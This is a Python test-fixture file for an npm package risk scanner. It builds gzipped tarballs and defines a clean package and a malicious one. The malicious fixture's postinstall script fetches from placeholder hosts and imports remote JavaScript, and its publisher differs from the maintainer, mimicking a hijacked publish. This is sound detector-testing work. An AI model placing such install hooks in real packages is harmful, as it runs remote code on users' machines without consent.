"""Shared fixtures: npm-shaped package documents and in-memory tarballs."""

import io
import tarfile
from collections.abc import Callable

import pytest

from npmscore.models.schemas import PackageMetadata


def _tarball_bytes(files: dict[str, bytes | str], prefix: str = "package/") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(name=f"{prefix}{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.fixture
def make_tarball() -> Callable[..., bytes]:
    """Factory building a gzipped npm-style tarball from {path: content}."""
    return _tarball_bytes


@pytest.fixture
def clean_package() -> dict:
    """A package with nothing worth flagging."""
    return {
        "name": "clean-pkg",
        "version": "1.0.0",
        "description": "Nothing to see here",
        "scripts": {"test": "jest"},
        "dependencies": {"lodash": "^4.17.21"},
        "dist": {"unpackedSize": 12_000, "fileCount": 8},
        "maintainers": [{"name": "alice", "email": "alice@example.com"}],
        "_npmUser": {"name": "alice", "email": "alice@example.com"},
    }


@pytest.fixture
def clean_metadata(clean_package) -> PackageMetadata:
    return PackageMetadata.model_validate(clean_package)


@pytest.fixture
def malicious_package() -> dict:
    """Install-time network access plus a hijacked publish."""
    return {
        "name": "evil-pkg",
        "version": "6.6.6",
        "scripts": {
            "postinstall": "fetch('http://x'); require('http'); import('https://y/z.js')",
        },
        "dependencies": {"axios": "^1.0.0"},
        "dist": {"unpackedSize": 10 * 1024 * 1024, "fileCount": 3},
        "maintainers": [{"name": "alice"}],
        "_npmUser": {"name": "mallory"},
    }
